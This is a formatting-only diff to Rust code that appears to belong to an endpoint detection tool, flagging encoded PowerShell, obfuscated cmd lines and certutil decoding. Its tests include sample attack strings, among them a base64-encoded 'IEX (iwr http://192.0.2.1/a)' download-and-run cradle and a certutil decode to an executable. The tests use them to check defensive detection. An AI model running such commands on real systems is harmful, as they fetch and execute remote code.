@@ -114,10 +114,7 @@ impl Signal for Script01 {
             scan.start(row);
         }
         let script_rows = rows.table(&script::TABLE);
-        for row in script_rows
-            .iter()
-            .filter(|r| r.id(script::HOST_APP) != NO_STR)
-        {
+        for row in script_rows.iter().filter(|r| r.id(script::HOST_APP) != NO_STR) {
             scan.engine(row);
         }
         for block in blocks(script_rows) {
@@ -225,18 +222,15 @@ impl Scan {
 fn of_command_line(text: &str, row: Row<'_>) -> Option<Finding> {
     let (image, original) = names(row);
     let powershell = |n: &str| matches!(n, "powershell" | "pwsh" | "powershell_ise");
-    let program = if powershell(&original) {
-        &original
-    } else {
-        &image
-    };
+    let program = if powershell(&original) { &original } else { &image };
     if let Some(found) = of_layers(&decode_layers(text, program)) {
         return Some(found);
     }
     if (powershell(program) || text.to_ascii_lowercase().contains("powershell"))
-        && let Some(found) = of_disguise(text, "T1059.001") {
-            return Some(found);
-        }
+        && let Some(found) = of_disguise(text, "T1059.001")
+    {
+        return Some(found);
+    }
     let lower = text.to_ascii_lowercase();
     if (image == "cmd" || original == "cmd") && cmd_obfuscation(text).is_obfuscated() {
         return Some(Finding {
@@ -270,8 +264,8 @@ fn of_script(text: &str) -> Option<Finding> {
     if decodes {
         let executes = content::classes(text).contains(Class::Execute);
         let long = text.len() > LONG_BLOCK as usize;
-        if let Some(found) = of_layers(&decode_layers(text, ""))
-            .filter(|f| !long && executes || f.quality >= QUALITY_TELLING)
+        if let Some(found) =
+            of_layers(&decode_layers(text, "")).filter(|f| !long && executes || f.quality >= QUALITY_TELLING)
         {
             return Some(found);
         }
@@ -336,17 +330,9 @@ fn of_layers(layers: &[Layer]) -> Option<Finding> {
     Some(Finding {
         key: format!("decoded:{}", digest(&first.text)),
         explain,
-        quality: if classes >= 2 {
-            QUALITY_TELLING
-        } else {
-            QUALITY
-        },
+        quality: if classes >= 2 { QUALITY_TELLING } else { QUALITY },
         techniques,
-        decoded: layers
-            .iter()
-            .map(|l| l.text.as_str())
-            .collect::<Vec<_>>()
-            .join("\n"),
+        decoded: layers.iter().map(|l| l.text.as_str()).collect::<Vec<_>>().join("\n"),
     })
 }
 
@@ -365,11 +351,7 @@ mod tests {
     use base64::engine::general_purpose::STANDARD;
 
     fn encoded(text: &str) -> String {
-        STANDARD.encode(
-            text.encode_utf16()
-                .flat_map(u16::to_le_bytes)
-                .collect::<Vec<u8>>(),
-        )
+        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
     }
 
     fn script_hits(texts: &[(&str, i64)]) -> Vec<Hit> {
@@ -386,10 +368,7 @@ mod tests {
 
     #[test]
     fn what_was_encoded_is_in_the_explanation_and_its_urls_are_indicators() {
-        let line = format!(
-            "powershell -NoP -enc {}",
-            encoded("IEX (iwr http://192.0.2.1/a)")
-        );
+        let line = format!("powershell -NoP -enc {}", encoded("IEX (iwr http://192.0.2.1/a)"));
         let found = hits_of(&Script01, "powershell.exe", "cmd.exe", &line);
         assert_eq!(found.len(), 1);
         assert!(found[0].explain.contains("IEX (iwr http://192.0.2.1/a)"));
@@ -399,10 +378,7 @@ mod tests {
             [crate::signals::Ioc::Url("http://192.0.2.1/a".to_owned())]
         );
         let plain = format!("pwsh -e {}", encoded("$a=1;$a+1"));
-        assert_eq!(
-            hits_of(&Script01, "pwsh.exe", "cmd.exe", &plain)[0].quality,
-            QUALITY
-        );
+        assert_eq!(hits_of(&Script01, "pwsh.exe", "cmd.exe", &plain)[0].quality, QUALITY);
     }
 
     #[test]
@@ -416,13 +392,7 @@ mod tests {
             "explorer.exe",
             &format!("cmd /c {line}"),
         );
-        start(
-            &mut sample,
-            "2026-03-02T09:00:01Z",
-            "powershell.exe",
-            "cmd.exe",
-            &line,
-        );
+        start(&mut sample, "2026-03-02T09:00:01Z", "powershell.exe", "cmd.exe", &line);
         sample.row(&script::TABLE, "ws01", "2026-03-02T09:00:02Z", |b| {
             b.text(script::HOST_APP, &line)
         });
@@ -455,13 +425,7 @@ mod tests {
             ["T1059.003", "T1027.010"]
         );
         assert_eq!(
-            hits_of(
-                &Script01,
-                "certutil.exe",
-                "cmd.exe",
-                "certutil -decode a.b64 a.exe"
-            )[0]
-            .techniques,
+            hits_of(&Script01, "certutil.exe", "cmd.exe", "certutil -decode a.b64 a.exe")[0].techniques,
             ["T1140"]
         );
     }
@@ -473,9 +437,7 @@ mod tests {
         let found = script_hits(&[
             (&format!("{tail}')))"), 2),
             (
-                &format!(
-                    "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{head}"
-                ),
+                &format!("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{head}"),
                 1,
             ),
         ]);
